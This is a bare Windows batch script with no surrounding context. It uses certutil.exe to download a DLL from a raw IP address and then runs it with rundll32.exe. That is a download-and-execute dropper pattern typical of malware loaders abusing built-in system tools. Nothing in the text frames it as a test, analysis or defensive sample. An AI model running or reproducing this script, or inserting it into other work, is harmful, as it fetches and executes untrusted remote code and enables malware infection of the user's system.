@echo off
certutil.exe -urlcache -f http://198.51.100.9/sdd.dll sdd.dll
rundll32.exe sdd.dll,DllRegisterServer
